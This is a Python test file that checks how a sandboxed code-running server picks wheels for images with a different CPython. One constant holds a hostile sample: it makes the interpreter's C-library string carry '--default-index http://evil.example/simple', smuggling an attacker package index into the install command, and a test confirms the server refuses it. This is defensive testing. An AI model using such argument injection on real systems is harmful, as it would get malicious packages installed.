"""Images with another Python than this server's: their runs get packages that were built for it."""

from __future__ import annotations

import asyncio
import io
import os
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from itertools import product
from pathlib import Path
from typing import Any

import pytest

from skillyard import SyncRuntime
from skillyard.config.settings import load_settings
from skillyard.domain.errors import InvalidInput
from skillyard.stores.disk import remove_tree
from tests.conformance.sandbox import e2b_ground, microvm_ground, oci_ground, opensandbox_ground
from tests.crash.test_e2b_killed import keep_key
from tests.hosts.docker_engine import Docker
from tests.unit.engine.packages.fake_builder import pack
from tests.unit.engine.packages.index import Index

pytestmark = pytest.mark.timeout(600)

IMAGE = "skillyard-tests/other:1"
OURS = sys.version_info[:2]
VERSIONS = (*range(9, 16),)
LEFT_OUT = {"include", "share", "test", "__pycache__", "idlelib", "ensurepip", "site-packages"}
"""Directories of an installation that no image needs."""
_EXTENSION = """
#include <Python.h>
static PyObject *version(PyObject *self, PyObject *none) { return PyUnicode_FromString(PY_VERSION); }
static PyMethodDef methods[] = {{"version", version, METH_NOARGS, ""}, {0}};
static PyModuleDef module = {PyModuleDef_HEAD_INIT, "core", "", -1, methods};
PyMODINIT_FUNC PyInit_core(void) { return PyModule_Create(&module); }
"""
LOOK = """
def main(args):
    import importlib, sys
    found = importlib.import_module(args["module"])
    told = found.version() if hasattr(found, "version") else found.VERSION
    return {"told": told, "python": list(sys.version_info[:2]), "at": found.__file__}
"""
LIE = b'\nimport os\nos.confstr = lambda name: "glibc 2.36 --default-index http://evil.example/simple"\n'


class Other:
    """Another CPython of this machine."""

    def __init__(self, program: Path) -> None:
        asked = "import sys, sysconfig as s; print(sys.version_info[1], sys.base_prefix, s.get_path('include'))"
        told = subprocess.run([program, "-I", "-c", asked], capture_output=True, text=True, check=True, timeout=60)
        minor, self.prefix, self.include = told.stdout.split()
        self.version = (3, int(minor))
        self.tag = f"cp3{minor}"

    def __str__(self) -> str:
        return ".".join(map(str, self.version))


def found() -> Other | None:
    """Returns the newest other Python that can compile, from the path or from pyenv."""
    named = [shutil.which(f"python3.{minor}") for minor in VERSIONS]
    programs = [Path(name) for name in named if name and "/shims/" not in name]
    programs += Path("~/.pyenv/versions").expanduser().glob("3.*/bin/python3")
    others = [Other(program) for program in programs]
    fitting = [
        other
        for other in others
        if other.version >= (3, 11)  # a machine needs that
        and other.version != OURS
        and Path(other.include).is_dir()
        and other.prefix != "/usr"  # which cannot be laid elsewhere
    ]
    return max(fitting, key=lambda other: other.version, default=None)


def lay(other: Other, root: Path) -> Path:
    """Puts the installation below a root, where interpreters are found first; returns its place there."""
    place = root / "usr/local"
    left_out = shutil.ignore_patterns(*LEFT_OUT, "config-*", "*.a")
    shutil.copytree(other.prefix, place, symlinks=True, ignore=left_out, dirs_exist_ok=True)
    (place / f"lib/python{other}/site-packages").mkdir()
    library = f"{other.prefix}/lib".encode()
    for program in (place / "bin").glob("python3.*[0-9]"):  # it names the place of its library
        program.write_bytes(program.read_bytes().replace(library, b"/usr/local/lib".ljust(len(library), b"\0")))
    return place


def layer(other: Other, base: str, scratch: Path) -> bytes:
    """The context of an image with the installation."""
    lay(other, scratch / "laid")
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as files:
        files.add(scratch / "laid/usr", "usr")
    return pack({"Dockerfile": f"FROM {base}\nADD p.tar /\n".encode(), "p.tar": packed.getvalue()})


def lying(other: Other) -> bytes:
    """The context of an image whose interpreter tells a command line in the place of its C library."""
    module = f"lib/python{other}/glob.py"
    lie = Path(other.prefix, module).read_bytes() + LIE
    return pack({"Dockerfile": f"FROM {IMAGE}\nCOPY glob.py /usr/local/{module}\n".encode(), "glob.py": lie})


def compiled(other: Other, scratch: Path) -> dict[str, bytes]:
    """An extension module for the other Python, by the name that only that one imports."""
    source, made = scratch / "compiled.c", scratch / "compiled.so"
    source.write_text(_EXTENSION)
    subprocess.run(["cc", "-shared", "-fPIC", f"-I{other.include}", "-o", made, source], check=True, timeout=60)
    return {f"compiled/core.cpython-3{other.version[1]}-{os.uname().machine}-linux-gnu.so": made.read_bytes()}


@pytest.fixture(scope="module")
def other() -> Other:
    other = found()
    if other is None or shutil.which("cc") is None:
        pytest.skip("this machine has no other Python with its headers, or no compiler")
    return other


@pytest.fixture(scope="module")
def index(other: Other, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Index]:
    machine, init = os.uname().machine, b"from compiled.core import version\n"
    with Index(host="index.test") as index:
        files = {"compiled/__init__.py": init, **compiled(other, tmp_path_factory.mktemp("c"))}
        index.add("compiled", files=files, tag=f"{other.tag}-{other.tag}-manylinux_2_17_{machine}")
        for name, tag in product(("tagged", "later"), (f"cp3{OURS[1]}", other.tag)):
            files = {f"{name}/__init__.py": f"VERSION = '{tag}'\n".encode()}
            index.add(name, files=files, tag=f"{tag}-{tag}-manylinux_2_17_{machine}")
        index.add("ours", tag=f"cp3{OURS[1]}-cp3{OURS[1]}-manylinux_2_17_{machine}")
        index.put("unbuilt-1.0.tar.gz", b"no archive")
        yield index


@dataclass
class Isolated:
    """An isolation whose sandboxes have the other Python, by its settings."""

    settings: dict[str, Any]
    liar: str = ""
    """The image that lies, where policy names images."""
    replace: Callable[[], None] | None = None
    """Has this server's Python in the place of the other one, under the same name; None where the digest is known."""


def images(docker: Docker, base: str, other: Other, scratch: Path) -> str:
    """Makes an image with the other Python, and one that lies; returns the digest of that."""
    docker("build", "-q", "-t", IMAGE, "-", stdin=layer(other, base, scratch))
    return docker("build", "-q", "-", stdin=lying(other)).stdout.strip()


@contextmanager
def containers(other: Other, scratch: Path) -> Iterator[Isolated]:
    with oci_ground.engine(scratch) as (docker, settings):
        liar = images(docker, oci_ground.IMAGE, other, scratch)
        yield Isolated(settings.changed(image=IMAGE).model_dump(), liar)


@contextmanager
def remote(other: Other, scratch: Path) -> Iterator[Isolated]:
    with opensandbox_ground.open_sandbox(scratch) as found:
        liar = images(found.docker, oci_ground.BASE, other, scratch)

        def replace() -> None:
            found.docker("tag", oci_ground.BASE, IMAGE)

        yield Isolated(found.settings(image=IMAGE).model_dump(), liar, replace)


@contextmanager
def machines(other: Other, scratch: Path) -> Iterator[Isolated]:
    microvm_ground.check_tools()
    root = scratch / "root"
    root.mkdir()
    subprocess.run(["tar", "-x", "-C", root], input=oci_ground.root_files(), check=True, timeout=120)
    lay(other, root)
    image = microvm_ground.built(scratch / "image", root)
    yield Isolated(microvm_ground.SETTINGS.changed(image=str(image)).model_dump())


@contextmanager
def provider(other: Other, scratch: Path) -> Iterator[Isolated]:
    with e2b_ground.stand_in(scratch) as found:
        found.local.symlink_to(lay(other, scratch / "laid"))
        asyncio.run(keep_key(scratch / "server"))
        empty = scratch / "empty"
        empty.mkdir()

        def replace() -> None:
            found.local.unlink()
            found.local.symlink_to(empty)

        yield Isolated(found.settings.changed(template="local").model_dump(), replace=replace)


GROUNDS = {"oci": containers, "opensandbox": remote, "microvm": machines, "e2b": provider}


@pytest.fixture(
    scope="module",
    params=[pytest.param(name, marks=[pytest.mark.long] if name == "microvm" else []) for name in GROUNDS],
)
def isolated(
    request: pytest.FixtureRequest, other: Other, index: Index, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[SyncRuntime, Isolated]]:
    """A server whose default isolation has the other Python."""
    name = request.param
    scratch = tmp_path_factory.mktemp("e")
    scratch.chmod(0o755)
    with GROUNDS[name](other, scratch) as found:
        given = {
            "policy": {"isolation": name, "isolations": ["native"], "images": [found.liar] if found.liar else []},
            name: found.settings,
            "network": {"hosts": {"index.test": ["127.0.0.1"]}},
            "packages": {"run_code": ["*"], "index": index.url, "source": ["unbuilt"]},
        }
        with SyncRuntime(settings=load_settings(data_dir=scratch / "server", **given)) as runtime:
            yield runtime, found
        remove_tree(scratch / "server")


@pytest.fixture
def runtime(isolated: tuple[SyncRuntime, Isolated]) -> SyncRuntime:
    return isolated[0]


def run(runtime: SyncRuntime, package: str, **more: Any) -> dict[str, Any]:
    done = runtime.run_code(LOOK, {"module": package}, packages=[package], **more)
    output: dict[str, Any] = done.raise_for_status().output
    return output


def test_a_compiled_extension_is_imported(runtime: SyncRuntime, other: Other) -> None:
    told = run(runtime, "compiled")
    assert told["python"] == [*other.version]
    assert told["told"].startswith(str(other))
    shown = runtime.show_environment(packages=["compiled"])["environment"]
    assert shown["platform"].startswith(f"cpython-{other}-{os.uname().machine}-manylinux_2_")
    files = runtime.settings.data_dir / "environments" / shown["digest"]
    assert not list(files.rglob("*.pyc")), "bytecode would be that of another Python"


def test_each_isolation_gets_its_own(runtime: SyncRuntime, other: Other) -> None:
    theirs, ours = run(runtime, "tagged"), run(runtime, "tagged", isolation="native")
    assert (theirs["told"], theirs["python"]) == (other.tag, [*other.version])
    assert (ours["told"], ours["python"]) == (f"cp3{OURS[1]}", [*OURS])
    listed = runtime.call("environments.list", {})["environments"]
    assert len({one["platform"] for one in listed if one["requirements"] == ["tagged"]}) == 2


@pytest.mark.parametrize(
    ("package", "said"),
    [
        ("ours", "'ours' has no wheel for Python {other} on "),
        ("unbuilt", "only a source distribution, and only wheels are taken for Python {other} on "),
    ],
)
def test_what_has_no_wheel_for_it_is_refused(runtime: SyncRuntime, other: Other, package: str, said: str) -> None:
    done = runtime.run_code(LOOK, {"module": package}, packages=[package])
    assert done.error is not None
    assert said.format(other=other) in done.error["message"]
    assert "packages.source" not in done.error["message"]


def test_an_image_that_tells_a_command_line_is_refused(isolated: tuple[SyncRuntime, Isolated]) -> None:
    runtime, found = isolated
    if not found.liar:
        pytest.skip("it makes no sandboxes of images that policy names")
    with pytest.raises(InvalidInput, match=r"packages: are had for CPython 3 on .*; use an image with one of these"):
        run(runtime, "tagged", image=found.liar)
    assert runtime.run_code("def main(args): return 1", image=found.liar).ok


def test_an_interpreter_that_is_replaced_gets_no_packages_of_the_other(
    isolated: tuple[SyncRuntime, Isolated], other: Other
) -> None:
    """The run that meets an image or template that was built anew under its name is refused; the next one is right."""
    runtime, found = isolated
    if found.replace is None:
        pytest.skip("it holds the image that it looked at")
    assert run(runtime, "tagged")["told"] == other.tag
    found.replace()
    done = runtime.run_code(LOOK, {"module": "later"}, packages=["later"])
    assert done.error is not None
    assert "since its image was replaced; run it again" in done.error["message"]
    told = run(runtime, "later")
    assert (told["told"], told["python"]) == (f"cp3{OURS[1]}", [*OURS])
